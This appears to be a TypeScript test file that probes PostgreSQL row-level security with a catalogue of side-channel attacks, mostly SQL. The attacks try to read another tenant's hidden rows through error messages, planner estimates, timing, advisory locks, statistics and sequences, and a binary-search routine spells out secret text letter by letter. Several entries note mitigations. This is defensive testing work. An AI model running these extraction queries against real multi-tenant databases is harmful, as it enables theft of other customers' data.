import { a, b, READ, type Attack } from './attack.js';

const PRINTABLE = Array.from({ length: 95 }, (_, n) => String.fromCharCode(32 + n));

/** Finds, letter by letter, the longest text that begins with `known` and that `isBelow` says a hidden value is not below. */
async function spell(
  isBelow: (guess: string) => Promise<boolean>,
  known: string,
  letters: number,
): Promise<string> {
  let text = known;
  for (let n = 0; n < letters; n++) {
    let [low, high] = [0, PRINTABLE.length];
    while (high - low > 1) {
      const middle = (low + high) >> 1;
      if (await isBelow(text + PRINTABLE[middle])) high = middle;
      else low = middle;
    }
    text += PRINTABLE[low];
  }
  return text;
}

const literal = (text: string) => `'${text.replaceAll("'", "''")}'`;

const SEQUENTIAL = 'SET enable_indexscan = off; SET enable_bitmapscan = off; SET enable_indexonlyscan = off';

/** Spells B's text by a lock that is taken for a row whose text is below a guess, whether or not the row is seen. */
async function spellByLocks(ask: (sql: string) => Promise<string>, table: string): Promise<string> {
  await ask(SEQUENTIAL);
  let lock = 0;
  return spell(
    async (guess) => {
      lock++;
      await ask(
        `SELECT 1 FROM ${table} WHERE CASE WHEN tenant_id = '{B}' AND body COLLATE "C" < ${literal(guess)} THEN pg_try_advisory_lock(${lock}) END`,
      );
      return /"1"/.test(
        await ask(
          `SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND objid = ${lock} AND pid = pg_backend_pid()`,
        ),
      );
    },
    'of B',
    8,
  );
}

/** What tells something about rows that it does not show. */
export const oracles: readonly Attack[] = [
  {
    id: 'O01',
    title: 'errors that show a value',
    tries: 'casts a hidden text to a number, in all places of a statement',
    steps: [
      a(`SELECT body::int FROM note`),
      a(`SELECT 1 FROM note WHERE body::int = 1`),
      a(`SELECT 1 FROM note ORDER BY CASE WHEN body LIKE '%B%' THEN body::int ELSE 1 END`),
      a(`SELECT count(*) FROM note GROUP BY body::date`),
      a(`SELECT 1 FROM country RIGHT JOIN note ON country.id = note.body::int`),
      a(`UPDATE note SET body = body WHERE body::uuid IS NULL`),
      a(`DELETE FROM note WHERE xmlparse(DOCUMENT body) IS NULL`),
    ],
    plain: 'holds',
  },
  {
    id: 'O02',
    title: 'cheap functions that leak',
    tries: 'conditions the planner would like to check first, because they cost less than the policy',
    steps: [
      a(`${READ} WHERE 1 / (length(body) - length(body)) = 0 OR tenant_id IS NULL`),
      a(`${READ} WHERE body ~ ('(' || body)`),
      a(`${READ} WHERE (xpath('/' || body || '[', '<a/>'))[1] IS NOT NULL`),
      a(`${READ} WHERE body::json IS NOT NULL`),
      a(`${READ} WHERE pg_notify('loot', body) IS NULL`),
      a(`${READ} WHERE to_regclass(body) IS NOT NULL AND pg_sleep(0) IS NULL`),
      a(`SELECT row_to_json(n) FROM note AS n WHERE row_to_json(n)::text::xml IS NULL`),
    ],
    plain: 'holds',
  },
  {
    id: 'O03',
    title: 'functions of its own in conditions',
    tries: 'a temporary function that raises what it sees, with a cost of almost nothing',
    steps: [
      a(
        `CREATE FUNCTION pg_temp.leak(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $f$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $f$`,
      ),
      a(`${READ} WHERE pg_temp.leak(body)`),
      a(
        `CREATE FUNCTION pg_temp.proof(text) RETURNS boolean LANGUAGE plpgsql LEAKPROOF AS $f$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $f$`,
      ),
      a(`${READ} WHERE pg_temp.proof(body)`),
    ],
    plain: 'holds',
  },
  {
    id: 'O04',
    title: 'violations that show a value',
    tries: 'unique, foreign and check constraints, and what their DETAIL says of the other row',
    steps: [
      a(`INSERT INTO note (id, body) VALUES (101, 'x')`),
      a(`INSERT INTO note (id, tenant_id, body) VALUES (101, '{B}', 'x')`),
      a(`INSERT INTO note (body, "notebookId") VALUES ('x', 201)`),
      a(`UPDATE note SET "notebookId" = 201`),
      a(`INSERT INTO note (id, tenant_id, body) VALUES (101, '{B}', NULL)`),
      a(`INSERT INTO note (id, body) VALUES (101, 'x') ON CONFLICT DO NOTHING RETURNING *`),
      a(
        `INSERT INTO note (id, body) VALUES (101, 'x') ON CONFLICT (id) DO UPDATE SET body = note.body RETURNING *`,
      ),
    ],
    plain: 'holds',
  },
  {
    id: 'O05',
    title: 'statistics',
    tries: 'pg_stats, pg_statistic, extended statistics and their arrays of most common values',
    prepare: 'ANALYZE note',
    steps: [
      a(`SELECT * FROM pg_stats WHERE tablename = 'note'`),
      a(`SELECT * FROM pg_statistic`),
      a(`SELECT * FROM pg_stats_ext`),
      a(`SELECT stavalues1::text FROM pg_statistic`),
      a('CREATE STATISTICS s ON body, tenant_id FROM note'),
      a('ANALYZE note'),
    ],
    plain: 'holds',
  },
  {
    id: 'O06',
    title: 'time, bit by bit',
    tries: 'sleeps for each row whose hidden text begins with a letter',
    steps: [
      {
        learn: async (ask) => {
          await ask(SEQUENTIAL);
          const started = Date.now();
          await ask(
            `SELECT count(*) FROM note WHERE CASE WHEN body LIKE 'of B%' THEN pg_sleep(3) IS NOT NULL END`,
          );
          await ask(
            `SELECT count(*) FROM note WHERE CASE WHEN body > 'of B' THEN pg_sleep(3) IS NOT NULL END`,
          );
          return Date.now() - started > 2500 ? 'of B: secret' : '';
        },
      },
    ],
    prepare: 'ANALYZE note',
    plain: 'leaks',
  },
  {
    id: 'O07',
    title: "the planner's estimates",
    tries: 'EXPLAIN … WHERE body < guess: the estimate jumps at each frequent value, whoever it belongs to',
    prepare: `INSERT INTO note (tenant_id, body) SELECT t::uuid, b FROM (VALUES ('{A}', 'A has this'), ('{B}', 'B keeps this')) AS v (t, b), generate_series(1, 200); ANALYZE note`,
    steps: [
      {
        learn: async (ask) => {
          const rows = async (guess: string) =>
            Number(
              /rows=(\d+)/.exec(
                await ask(
                  `EXPLAIN SELECT 1 FROM note, generate_series(1, 1000000) WHERE body COLLATE "C" < ${literal(guess)}`,
                ),
              )![1],
            );
          const none = await rows('B');
          const found = await spell(async (guess) => (await rows(guess)) > 2 * none, 'B', 11);
          return found;
        },
      },
    ],
    open: 'PostgreSQL estimates from statistics over all tenants, with every operator that is leakproof, and EXPLAIN shows the estimate. `ALTER TABLE … ALTER COLUMN … SET STATISTICS 0` leaves a column without.',
    plain: 'leaks',
  },
  {
    id: 'O08',
    title: 'rows that an index found and the policy removed',
    tries:
      'EXPLAIN ANALYZE over an index that does not begin with the tenant: it counts what was filtered out',
    prepare: 'CREATE INDEX note_body ON note (body COLLATE "C")',
    undo: 'DROP INDEX note_body',
    steps: [
      {
        learn: async (ask) => {
          const settings = `SET enable_seqscan = off; SET enable_bitmapscan = off;`;
          await ask(settings);
          const above = async (guess: string) =>
            /Removed by Filter":\s*[1-9]/.test(
              await ask(
                `EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1 FROM note WHERE body COLLATE "C" >= ${literal(guess)} AND body COLLATE "C" < 'of C' ORDER BY body COLLATE "C"`,
              ),
            );
          return spell(async (guess) => !(await above(guess)), 'of B', 8);
        },
      },
    ],
    open: 'A leakproof comparison may use an index before the policy is asked, and EXPLAIN ANALYZE (or a clock) tells how many rows it found. Let indexes begin with the tenant column.',
    plain: 'leaks',
  },
  {
    id: 'O15',
    title: 'an error in a condition that costs nothing',
    tries:
      'spells a hidden text by an index that does not begin with the tenant: a CASE without any function, whose result is a sub-select that raises, is checked for the rows it finds',
    prepare: 'CREATE INDEX note_body ON note (body COLLATE "C")',
    undo: 'DROP INDEX note_body',
    steps: [
      {
        learn: async (ask) => {
          await ask('SET enable_seqscan = off; SET enable_bitmapscan = off;');
          const raises = '(SELECT 1 / (random() * 0)::int = 1)';
          const above = async (guess: string) =>
            /division by zero/.test(
              await ask(
                `SELECT 1 FROM note WHERE body COLLATE "C" >= ${literal(guess)} AND body COLLATE "C" < 'of C' AND CASE WHEN body IS NULL THEN ${raises} ELSE ${raises} END`,
              ),
            );
          return spell(async (guess) => !(await above(guess)), 'of B', 8);
        },
      },
    ],
    open: 'PostgreSQL checks what costs nothing before any policy, and takes a condition for leakproof by the functions that are given columns, whatever a sub-select in it does. Let indexes begin with the tenant column; what is left are boolean columns, and whether a column is null.',
    plain: 'leaks',
  },
  {
    id: 'O09',
    title: 'the last value of a sequence',
    tries: "lastval() and currval() behind B's insert on the same connection",
    steps: [
      { by: 'B', save: 'saved with a number' },
      { learn: async (ask) => `id ${/\d+/.exec(await ask(`SELECT lastval() AS v`))?.[0]}` },
    ],
    open: 'A sequence has no policy: it tells the number of the last row, whoever wrote it. Use `uuid` keys where numbers are secret.',
    plain: 'leaks',
  },
  {
    id: 'O10',
    title: "the text of B's statements",
    tries: "reads pg_stat_activity while B's statement with a literal is under way",
    steps: [
      {
        meanwhile: 'text',
        sql: `SELECT pg_sleep(0.4), 'of B: secret'`,
        attacker: [a('SELECT query FROM pg_stat_activity')],
      },
    ],
    open: 'Sessions of one role see the texts of each other’s statements. Use parameters, which they do not see; `ALTER ROLE … SET track_activities = off` hides the texts.',
    plain: 'leaks',
  },
  {
    id: 'O11',
    title: 'a count of what is not there',
    tries: 'sizes, counters and dead rows of the table',
    steps: [
      a(`SELECT * FROM pg_stat_user_tables WHERE relname = 'note'`),
      a(`SELECT pg_relation_size('note'), reltuples FROM pg_class WHERE relname = 'note'`),
      a(`SELECT * FROM heap_page_items(get_raw_page('note', 0))`),
      a(`SELECT * FROM pg_visibility_map('note')`),
      a(`SELECT currtid2('note', '(0,2)')`),
      b(READ),
    ],
    plain: 'holds',
  },
  {
    id: 'O12',
    title: 'a condition that PostgreSQL checks before the policy',
    tries:
      'a CASE whose comparison is leakproof and whose function takes no column: PostgreSQL checks it first if it costs less than the policy, and the function leaves a trace',
    prepare: 'ANALYZE note',
    steps: [{ learn: (ask) => spellByLocks(ask, 'note') }],
    plain: 'leaks',
  },
  {
    id: 'O13',
    title: 'the same on a table that set contexts read',
    tries:
      'the policy of such a table looks for the tenant in a list, which alone would cost more than the condition',
    prepare: 'ANALYZE memo',
    steps: [{ learn: (ask) => spellByLocks(ask, 'memo') }],
    plain: 'leaks',
  },
  {
    id: 'O14',
    title: 'the cheapest condition there is',
    tries:
      'counts, by how often a lock was taken, the rows whose column is null: one function, as cheap as the policy',
    prepare: `UPDATE note SET "notebookId" = 11 WHERE id = 1; ANALYZE note`,
    steps: [
      {
        learn: async (ask) => {
          await ask(SEQUENTIAL);
          await ask(
            `SELECT 1 FROM note WHERE CASE WHEN "notebookId" IS NULL THEN pg_try_advisory_lock(1) END`,
          );
          const unlocked = await ask('SELECT pg_advisory_unlock(1) AS u FROM generate_series(1, 9)');
          // A itself has one row like that.
          return unlocked.split('true').length - 1 > 1 ? 'of B: secret' : '';
        },
      },
    ],
    plain: 'leaks',
  },
];
